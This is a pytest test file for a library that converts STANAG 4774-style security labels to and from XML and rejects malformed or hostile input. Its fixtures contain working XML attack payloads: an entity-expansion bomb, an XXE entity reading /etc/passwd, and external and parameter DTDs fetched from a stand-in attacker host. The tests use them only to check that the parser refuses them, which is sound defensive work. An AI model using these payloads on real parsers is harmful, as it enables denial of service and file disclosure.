"""4774-style XML labels: their shape, the round trip, and refusal of hostile or odd XML."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gsomia import load_registry
from gsomia.core.errors import InvalidLabelError
from gsomia.core.labels import SecurityLabel
from gsomia.formats.stanag4774 import BINDING_NAMESPACE, MAX_XML_BYTES, NAMESPACE, from_xml, to_xml

REG = load_registry()
JST = timezone(timedelta(hours=9))
N = f"{{{NAMESPACE}}}"
LABEL = SecurityLabel(
    originator="JPN",
    policy="JPN",
    classification="gokuhi",
    releasable_to=frozenset({"KOR", "USA", "JPN"}),
    compartments=frozenset({"ALPHA"}),
    topics=frozenset({"dprk-missile"}),
    created=datetime(2023, 12, 19, 9, 30, tzinfo=JST),
)


def test_an_originator_label_has_the_4774_elements() -> None:
    root = ET.fromstring(to_xml(REG, LABEL))
    assert root.tag == f"{N}originatorConfidentialityLabel"
    info = root.find(f"{N}ConfidentialityInformation")
    assert info is not None
    assert info.findtext(f"{N}PolicyIdentifier") == "JPN"
    assert info.findtext(f"{N}Classification") == "極秘"
    categories = {c.get("TagName"): c for c in info.findall(f"{N}Category")}
    rel = categories["Releasable To"]
    assert rel.get("Type") == "PERMISSIVE"
    assert [v.text for v in rel.findall(f"{N}GenericValue")] == ["USA", "JPN", "KOR"]
    assert categories["Compartment"].get("Type") == "RESTRICTIVE"
    assert categories["Topic"].get("Type") == "INFORMATIVE"
    assert root.findtext(f"{N}OriginatorID") == "JPN"
    assert root.findtext(f"{N}CreationDateTime") == "2023-12-19T00:30:00Z"


def test_a_re_marked_label_carries_the_originator_and_the_alternative_label() -> None:
    held = LABEL.remarked("USA", "secret")
    root = ET.fromstring(to_xml(REG, held))
    assert root.tag == f"{{{BINDING_NAMESPACE}}}Metadata"
    original = root.find(f"{N}originatorConfidentialityLabel/{N}ConfidentialityInformation")
    alternative = root.find(f"{N}alternativeConfidentialityLabel/{N}ConfidentialityInformation")
    assert original is not None and alternative is not None
    assert original.findtext(f"{N}Classification") == "極秘"
    assert alternative.findtext(f"{N}PolicyIdentifier") == "USA"
    assert alternative.findtext(f"{N}Classification") == "SECRET"
    assert from_xml(REG, to_xml(REG, held)) == held


def test_reads_bytes_and_the_confidentiality_label_element() -> None:
    text = to_xml(REG, LABEL)
    assert from_xml(REG, text.encode("utf-8")) == LABEL
    renamed = text.replace("originatorConfidentialityLabel", "ConfidentialityLabel")
    assert from_xml(REG, renamed) == LABEL


def test_a_label_without_creation_time_or_consent_caveat_round_trips() -> None:
    label = SecurityLabel("KOR", "KOR", "gunsa-3", originator_consent_required=False)
    text = to_xml(REG, label)
    assert "CreationDateTime" not in text
    assert from_xml(REG, text) == label


BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<originatorConfidentialityLabel xmlns="{ns}">&lol3;</originatorConfidentialityLabel>"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<originatorConfidentialityLabel xmlns="{ns}">&xxe;</originatorConfidentialityLabel>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE x SYSTEM "http://attacker.invalid/evil.dtd">
<originatorConfidentialityLabel xmlns="{ns}"/>"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<originatorConfidentialityLabel xmlns="{ns}"/>"""


@pytest.mark.parametrize("document", [BOMB, EXTERNAL, EXTERNAL_DTD, PARAMETER])
def test_hostile_xml_is_refused_before_expansion(document: str) -> None:
    with pytest.raises(InvalidLabelError, match="has a DTD"):
        from_xml(REG, document.format(ns=NAMESPACE))


def _label_xml() -> str:
    return to_xml(REG, LABEL)


def _replace(old: str, new: str) -> str:
    text = _label_xml()
    assert old in text
    return text.replace(old, new, 1)


CONSENT = '<Category TagName="Originator Consent Required" Type="INFORMATIVE">'


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("", "malformed XML label"),
        ("<originatorConfidentialityLabel", "malformed XML label"),
        ("<a>&undefined;</a>", "malformed XML label"),
        (b"\xff\xfe\x00<", "malformed XML label"),
        ("<x/>" + " " * MAX_XML_BYTES, "larger than"),
        ('<ConfidentialityLabel xmlns="urn:example:other"/>', "unexpected document element"),
        (_replace("<OriginatorID>JPN</OriginatorID>", ""), "has no OriginatorID"),
        (_replace("<OriginatorID>JPN</OriginatorID>", "<OriginatorID>ATL</OriginatorID>"), "'ATL'"),
        (_replace("<PolicyIdentifier>JPN", "<PolicyIdentifier>ATL"), "PolicyIdentifier 'ATL'"),
        (_replace("<Classification>極秘", "<Classification>SECRET"), "Classification 'SECRET'"),
        (
            _replace("<OriginatorID>", "<PrivacyMark>IN CONFIDENCE</PrivacyMark><OriginatorID>"),
            "unexpected element PrivacyMark",
        ),
        (
            _replace(
                'TagName="Releasable To" Type="PERMISSIVE"',
                'TagName="Releasable To" Type="RESTRICTIVE"',
            ),
            "must have Type PERMISSIVE",
        ),
        (
            _replace('TagName="Compartment"', 'TagName="Caveat"'),
            "unknown category TagName 'Caveat'",
        ),
        (
            _replace("<GenericValue>USA</GenericValue>", "<GenericValue>JPN</GenericValue>"),
            "lists a value twice",
        ),
        (
            _replace("<GenericValue>USA</GenericValue>", "<GenericValue> </GenericValue>"),
            "GenericValue is empty",
        ),
        (
            _replace("<GenericValue>USA</GenericValue>", "<GenericValue>XYZ</GenericValue>"),
            "unknown party 'XYZ'",
        ),
        (
            _replace(
                f"{CONSENT}\n      <GenericValue>true", f"{CONSENT}\n      <GenericValue>maybe"
            ),
            "must be true or false",
        ),
        (_replace("2023-12-19T00:30:00Z", "2023-12-19T00:30:00"), "has no UTC offset"),
        (_replace("2023-12-19T00:30:00Z", "last Tuesday"), "not ISO 8601"),
        (
            _replace(
                'TagName="Topic" Type="INFORMATIVE"', 'TagName="Compartment" Type="RESTRICTIVE"'
            ),
            "'Compartment' appears twice",
        ),
        (_replace("<GenericValue>dprk-missile</GenericValue>", ""), "Category has no GenericValue"),
    ],
)
def test_odd_xml_is_refused_with_one_line(document: str | bytes, message: str) -> None:
    with pytest.raises(InvalidLabelError) as info:
        from_xml(REG, document)
    assert message in info.value.message
    assert "\n" not in info.value.message


def _metadata(original: SecurityLabel, alternative: SecurityLabel) -> str:
    def body(label: SecurityLabel, name: str) -> str:
        text = to_xml(REG, label).split("\n", 1)[1]
        return text.replace("originatorConfidentialityLabel", name)

    return (
        f'<Metadata xmlns="{BINDING_NAMESPACE}">'
        f"{body(original, 'originatorConfidentialityLabel')}"
        f"{body(alternative, 'alternativeConfidentialityLabel')}</Metadata>"
    )


def test_an_alternative_label_that_disagrees_with_the_originator_is_refused() -> None:
    other = SecurityLabel("JPN", "USA", "secret", releasable_to=frozenset({"USA"}))
    with pytest.raises(InvalidLabelError, match="differ from the originator's"):
        from_xml(REG, _metadata(LABEL, other))


def test_metadata_without_an_originator_label_is_refused() -> None:
    document = f'<Metadata xmlns="{BINDING_NAMESPACE}"></Metadata>'
    with pytest.raises(InvalidLabelError, match="has no originatorConfidentialityLabel"):
        from_xml(REG, document)


PARTIES = sorted(REG.parties)


@st.composite
def labels(draw: st.DrawFn) -> SecurityLabel:
    originator = draw(st.sampled_from(["JPN", "KOR", "USA"]))
    level = draw(st.sampled_from(REG.schemes[originator].levels))
    label = SecurityLabel(
        originator=originator,
        policy=originator,
        classification=level.id,
        releasable_to=draw(st.frozensets(st.sampled_from(PARTIES))),
        compartments=draw(st.frozensets(st.sampled_from(["ALPHA", "BRAVO", "X-1", "c d"]))),
        topics=draw(st.frozensets(st.sampled_from(sorted(REG.topics)))),
        created=draw(
            st.none()
            | st.datetimes(
                min_value=datetime(1990, 1, 1),
                max_value=datetime(2100, 1, 1),
                timezones=st.sampled_from([UTC, JST]),
            )
        ),
        originator_consent_required=draw(st.booleans()),
    )
    holder = draw(st.sampled_from(["JPN", "KOR", "USA", "NATO"]))
    if holder != originator:
        label = label.remarked(holder, draw(st.sampled_from(REG.schemes[holder].levels)).id)
    return label


@given(labels())
def test_xml_round_trip_keeps_every_field(label: SecurityLabel) -> None:
    assert from_xml(REG, to_xml(REG, label)) == label
